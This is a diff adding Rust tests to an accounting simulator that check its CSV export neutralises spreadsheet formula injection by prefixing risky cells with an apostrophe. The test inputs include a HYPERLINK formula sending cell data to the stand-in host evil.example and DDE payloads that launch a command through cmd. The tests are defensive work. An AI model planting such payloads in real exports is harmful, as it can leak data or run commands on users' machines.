@@ -529,3 +529,63 @@ fn a_closed_account_is_shown_without_a_side() {
     assert_eq!(row("cash "), "cash £500.00 Dr");
     assert_eq!(row("reserve "), "reserve £50.00 Cr");
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_read_as_formulas_are_written_as_text() {
+    let dir = std::env::temp_dir().join(format!("rochdale-formulas-{}", std::process::id()));
+    let o = rochdale(&[
+        "simulate",
+        "rulebooks/rochdale-1844.coop",
+        "--scenario-file",
+        "tests/scenarios/formula_names.json",
+        "--format",
+        "csv",
+        "--out",
+        dir.to_str().expect("utf-8"),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let statements = std::fs::read_to_string(dir.join("statements.csv")).expect("written");
+    let journal = std::fs::read_to_string(dir.join("journal.csv")).expect("written");
+    // Each name after a `'` (the csv writer quotes the cell with `"` inside).
+    assert!(
+        statements.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A2,""Click me"")""#),
+        "{statements}"
+    );
+    assert!(
+        statements.contains("'@SUM(1+1)*cmd|' /C calc'!A0"),
+        "{statements}"
+    );
+    for line in statements.lines().chain(journal.lines()) {
+        for cell in line.split(',') {
+            let first = cell.trim_start_matches('"').chars().next();
+            assert!(!matches!(first, Some('=' | '@')), "{line}");
+        }
+    }
+    // The journal's credit side names the member: `'=HYPERLINK(...): capital`;
+    // £4.00 each is written 4.00, a number, untouched.
+    assert!(
+        journal.contains("'@SUM(1+1)*cmd|' /C calc'!A0"),
+        "{journal}"
+    );
+    assert!(journal.contains(",4.00"), "{journal}");
+    // Stdout is the statements, made safe the same way.
+    assert!(stdout(&o).contains("'@SUM"), "{}", stdout(&o));
+}
+
+#[test]
+fn a_signed_number_is_left_as_it_is_and_anything_else_signed_is_text() {
+    use rochdale::simulate::sheets::safe_cell;
+    // A loss of £84.40 is the number -84.40 in a CSV: left as it is.
+    assert_eq!(safe_cell("-84.40"), "-84.40");
+    assert_eq!(safe_cell("+3"), "+3");
+    assert_eq!(safe_cell("smith"), "smith");
+    // Not numbers: a formula, a sign alone, a point with nothing after it.
+    assert_eq!(
+        safe_cell("-2+3+cmd|' /C calc'!A0"),
+        "'-2+3+cmd|' /C calc'!A0"
+    );
+    assert_eq!(safe_cell("-"), "'-");
+    assert_eq!(safe_cell("-1."), "'-1.");
+    assert_eq!(safe_cell("\tx"), "'\tx");
+    assert_eq!(safe_cell("\rx"), "'\rx");
+}
